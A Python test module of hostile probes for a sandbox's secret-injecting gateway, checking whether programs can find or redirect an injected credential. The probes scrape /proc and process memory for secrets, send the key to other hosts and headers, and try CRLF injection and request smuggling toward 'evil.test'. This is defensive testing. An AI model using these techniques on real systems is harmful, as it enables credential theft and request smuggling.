"""Probes for secrets: values that the gate puts into requests, and that no program may see or send elsewhere."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import AbstractAsyncContextManager

from corral.client.sandbox import AsyncSandbox
from corral.errors import CorralError
from corral.secret import Secret
from corral.testing.hostile.probe import Finding, Scene, breached, held, unproven
from corral.testing.hostile.window.stage import SECRET_HOST, SECRETS_POLICY, SecretStage
from corral.testing.hostile.window.tools import opening, probe

_GATE = "the gate alone has the value, and puts it into the named header of TLS to the named host"
_AUTHORITY = "/etc/corral/authority.pem"
_SERVER = f"{SECRET_HOST}:443"
_HEADER = b"authorization:"

_TOOLS = r"""
import base64
if not T.get("secret_host"):
    held("there are no secrets on this machine: the package cryptography is not installed")
HOST, ELSE, KEY = T["secret_host"], T["else_host"], os.environ["KEY"].encode()
HEAD = b"GET /%s HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\n"
END = b"Connection: close\r\n\r\n"
def tls(*pieces, to=None, name=None, through=None, seconds=2.0, trust=True, pause=0.0):
    "Send in TLS, and what comes back; None if there is no connection."
    context = ssl.create_default_context()
    if not trust:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        sock = socket.create_connection(PROXY if through else (to or HOST, 443), timeout=seconds)
        if through:
            sock.sendall(f"CONNECT {through} HTTP/1.1\r\nHost: {through}\r\n\r\n".encode())
            if b" 200 " not in sock.recv(1000):
                return None
        with context.wrap_socket(sock, server_hostname=name or to or HOST) as wrapped:
            answer = b""
            for piece in pieces:
                wrapped.sendall(piece)
                time.sleep(pause)
            while piece := wrapped.recv(65536):
                answer += piece
            return answer
    except OSError:
        return None
if b"found" not in (tls(HEAD % b"use" + b"Authorization: Bearer " + KEY + b"\r\n" + END, seconds=20) or b""):
    say("unproven", "the secret can't be used at all")
"""


def _opening(*, header: str = "Authorization") -> Callable[[], AbstractAsyncContextManager[AsyncSandbox]]:
    """A sandbox with the secret of the stage; one like any other if there can't be secrets."""

    def make() -> AbstractAsyncContextManager[AsyncSandbox]:
        value = SecretStage.value
        secrets = [Secret("KEY", value, [SECRET_HOST], header)] if value is not None else []
        return opening(*SECRETS_POLICY, secrets=secrets)()

    return make


def _only_where_it_belongs(*words: bytes, header: bytes = _HEADER) -> Callable[[Scene], object]:
    """The host's part: the value was told to its host in its header, and to nobody else; nor was one of these words."""

    async def judge(scene: Scene) -> Finding | None:
        if SecretStage.value is None:
            return None  # the program has said so
        value = SecretStage.value.encode()
        used = 0
        for name, heard in scene.canaries.heard.items():
            told = bytes(heard)
            heard.clear()
            if word := next((word for word in words if word in told), None):
                return breached(f"{name} was told {word!r}")
            for line in told.split(b"\r\n"):
                if value in line:
                    used += 1
                    if name != _SERVER or not line.lower().startswith(header):
                        return breached(f"{name} was told the value in {line[:20]!r}")
        if not used:
            return unproven("the host of the secret never got it")
        return held(f"used {used} times, and only where it belongs")

    return judge


READ = probe("read-a-secret-inside", _GATE, _TOOLS + r"""
found = []
for pid in pids():
    for name in ("environ", "cmdline", "comm", "status"):
        found.append(peek(f"/proc/{pid}/{name}"))
for top in ("/etc", "/tmp", "/run", "/dev/shm", "/var", os.environ["HOME"], "/opt/corral/bin"):
    for folder, _, names in os.walk(top):
        found += [peek(os.path.join(folder, name), 1 << 20) for name in names if "ca-cert" not in name]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        span, rights = line.split()[:2]
        first, last = (int(part, 16) for part in span.split("-"))
        if "w" in rights and last - first < 64 << 20:
            try:
                memory.seek(first)
                found.append(memory.read(last - first))
            except OSError:
                pass
if any(b"PRIVATE KEY" in each and b"BEGIN" in each.split(b"PRIVATE KEY")[0][-20:] for each in found[:-1]):
    shown = next(each for each in found if b"PRIVATE KEY" in each)
    if b"-----BEGIN PRIVATE KEY-----\nM" in shown:
        breached("a private key is inside")
import hashlib
digests = {bytes.fromhex(each) for each in T["secret_digests"]}
for each in found:  # not the value, which no program may know: what looks like one is compared by its digest
    at = each.find(b"gate-secret-")
    while at >= 0:
        if hashlib.sha256(each[at:at + T["secret_size"]]).digest() in digests:
            breached(f"the value is inside: in {each[max(0, at - 60):at]!r}")
        at = each.find(b"gate-secret-", at + 1)
held(f"not in {len(found)} files and pieces of memory")
""", make=_opening(), after=_only_where_it_belongs(), timeout=60)  # fmt: skip

ANOTHER_HOST = probe("send-a-placeholder-to-another-host", _GATE, _TOOLS + r"""
auth = b"Authorization: Bearer " + KEY + b"\r\n"
other = ELSE.encode()
heads = [
    HEAD % b"a" + auth + END,
    (HEAD % b"b").replace(HOST.encode(), other) + auth + END,
    (HEAD % b"c").replace(b"Host:", b"Host: " + other + b"\r\nHost:") + auth + END,
    (HEAD % b"d").replace(b"/d", b"http://" + other + b"/d") + auth + END,
    (HEAD % b"e").replace(b"/e", b"https://" + other + b"/e") + auth + END,
    HEAD % b"f" + b"X-Forwarded-Host: " + other + b"\r\n" + auth + END,
    b"GET /g HTTP/1.0\r\n" + auth + b"\r\n",
    (HEAD % b"h").replace(HOST.encode(), HOST.encode() + b"@" + other) + auth + END,
    (HEAD % b"i").replace(HOST.encode(), HOST.encode() + b"." + other) + auth + END,
    (HEAD % b"j").replace(HOST.encode(), HOST.encode() + b":8443") + auth + END,
    HEAD % b"k" + b"\r\n" + (HEAD % b"k2").replace(HOST.encode(), other) + auth + END,
]
for head in heads:
    tls(head)
    tls(head, to=ELSE)
    for name in (HOST, ELSE):
        tls(head, to=ELSE, name=name, trust=False)
        tls(head, name=name, trust=False)
        tls(head, through=f"{ELSE}:443", name=name, trust=False)
    for where in (HOST, ELSE):
        talk((where, 80), head, seconds=0.3)
        connect(f"{where}:80", head, seconds=0.3)
        talk(PROXY, head.replace(b" /", b" http://" + where.encode() + b"/", 1), seconds=0.3)
held("sent; the servers show what they were told")
""", make=_opening(), after=_only_where_it_belongs(), timeout=120)  # fmt: skip

ANOTHER_HEADER = probe("put-a-placeholder-in-another-header", _GATE, _TOOLS + r"""
packed = base64.b64encode(b"user:" + KEY)
lines = [
    b"X-Key: " + KEY, b"Cookie: a=" + KEY, b"Referer: https://x/" + KEY, b"User-Agent: " + KEY, b"Range: " + KEY,
    b"X-Authorization: Bearer " + KEY, b"Authorization_: " + KEY, b"Proxy-Authorization: Basic " + packed,
    b"Authorization : " + KEY, b"X: y\r\n Authorization: " + KEY, b"X: y\nAuthorization: " + KEY,
    b"X: y\rAuthorization: " + KEY, b"Expect: " + KEY, b"Upgrade: " + KEY, b"Connection: " + KEY,
    b"Transfer-Encoding: " + KEY, KEY + b": Authorization", b"X-Basic: Basic " + packed,
    b"Authorization: Basic " + packed + b"\r\nAuthorization: " + KEY, b"Authorization:\r\n " + KEY,
]
for line in lines:
    tls(HEAD % b"a" + line + b"\r\n" + END)
tls(HEAD % KEY + END)
tls(HEAD % (b"?key=" + KEY) + END)
tls((HEAD % b"body").replace(b"GET", b"POST") + b"Content-Length: %d\r\n" % len(KEY) + END + KEY)
chunk = b"%x\r\n%s\r\n0\r\nAuthorization: " % (len(KEY), KEY) + KEY + b"\r\n\r\n"
tls((HEAD % b"chunked").replace(b"GET", b"POST") + b"Transfer-Encoding: chunked\r\n" + END + chunk)
for method in (b"TRACE", b"TRACK", b"CONNECT", b"PRI", b"trace"):
    tls((HEAD % b"m").replace(b"GET", method) + b"Authorization: " + KEY + b"\r\n" + END)
inside = b"Authorization: Bearer " + KEY + b"\r\n"
tls(HEAD % b"ws" + b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n", KEY, pause=0.3)
tls(HEAD % b"h2c" + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\n" + inside + END)
held("sent; the servers show what they were told")
""", make=_opening(), after=_only_where_it_belongs(b"TRACE", b"TRACK", b"h2c\r\n"), timeout=90)  # fmt: skip

INJECT = probe("inject-lines-through-a-secret", _GATE, _TOOLS + r"""
def basic(login):
    return b"Authorization: Basic " + base64.b64encode(login) + b"\r\n"
key = b"Authorization: " + KEY
second = b"GET /injected HTTP/1.1\r\nHost: evil.test\r\nX-Injected: 1\r\n\r\n"
heads = [
    HEAD % b"a" + basic(b"u:" + KEY + b"\r\nX-Injected: 1") + END,
    HEAD % b"b" + basic(KEY + b"\0" + KEY) + END,
    HEAD % b"c" + key + b"\nX-Injected: 1\r\n" + END,
    HEAD % b"d" + key + b"\rX-Injected: 1\r\n" + END,
    HEAD % b"e" + key + b"\0\r\n" + END,
    HEAD % b"f" + key + b"\r\n X-Injected: 1\r\n" + END,
    HEAD % b"g" + b"Authorization: " + KEY * 900 + b"\r\n" + END,
    HEAD % b"h" + key + b"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second,
    HEAD % b"i" + key + b"\r\nContent-Length: 3\r\nContent-Length: 60\r\n\r\n" + second,
    HEAD % b"j" + key + b"\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + second,
    HEAD % b"k" + key + b"\r\nConnection: Host, Authorization\r\n\r\n",
    b"GET /l HTTP/1.1\nHost: " + HOST.encode() + b"\nAuthorization: " + KEY + b"\nX-Injected: 1\n\n",
]
for head in heads:
    tls(head)
    tls(*(head[at:at + 7] for at in range(0, min(len(head), 700), 7)), pause=0.0005)
held("sent; the servers show what they were told")
""", make=_opening(),
    after=_only_where_it_belongs(b"X-Injected", b"/injected", b"evil.test"), timeout=90)  # fmt: skip


async def _try_the_neighbours(scene: Scene) -> Finding | None:
    """Another sandbox with the same secret: its certificates are worth nothing here, and it has no key to take."""
    if SecretStage.value is None:
        return None  # the program has said so
    try:
        async with _opening()() as neighbour:
            theirs = await neighbour.files.read(_AUTHORITY)
        mine = await scene.sandbox.files.read(_AUTHORITY)
        await scene.sandbox.files.write("theirs.pem", theirs)
        done = await scene.sandbox.exec(["python3", "-c", _TRUSTING, SECRET_HOST, _AUTHORITY, "theirs.pem"])
    except CorralError as error:
        return unproven(f"{type(error).__name__}: {error}")
    if mine == theirs or b"PRIVATE" in mine + theirs:
        return breached("two sandboxes have one authority, or its key")
    said = done.stdout.split()
    if said[:1] != ["True"]:
        return unproven(f"its own authority is not trusted: {done.output[-200:]}")
    return breached("a neighbour's authority is trusted here") if said[1:] != ["False"] else None


_TRUSTING = """
import socket, ssl, sys
for path in sys.argv[2:]:
    context = ssl.create_default_context(cafile=path)
    try:
        with socket.create_connection((sys.argv[1], 443), timeout=10) as sock:
            context.wrap_socket(sock, server_hostname=sys.argv[1]).close()
        print(True)
    except ssl.SSLCertVerificationError:
        print(False)
"""

AUTHORITY = probe("use-the-authority-of-a-neighbour",
    "each sandbox has an authority of its own, which signs for the hosts of its secrets alone; its key is in the gate",
    _TOOLS + r"""
def is_ours(to, name):
    context = ssl.create_default_context(cafile="/etc/corral/authority.pem")
    context.check_hostname = False
    try:
        with context.wrap_socket(socket.create_connection((to, 443), timeout=5), server_hostname=name):
            return True
    except OSError:
        return False
if not is_ours(HOST, HOST):
    say("unproven", "the host of the secret shows no certificate of ours")
signed = [(to, name) for to in (HOST, ELSE) for name in (ELSE, "evil.test", "sub." + ELSE, "xsecret.test", "test", None)
    if (to, name) != (HOST, None) and is_ours(to, name)]
if signed:
    breached(f"it signs for others: {signed}")
for folder, _, names in os.walk("/etc"):
    for name in names:
        if b"PRIVATE KEY-----" in peek(os.path.join(folder, name), 1 << 20):
            breached(f"a key is in {folder}/{name}")
held("it signs for its own hosts alone")
""", make=_opening(), after=_try_the_neighbours, timeout=60, severity="lateral")  # fmt: skip
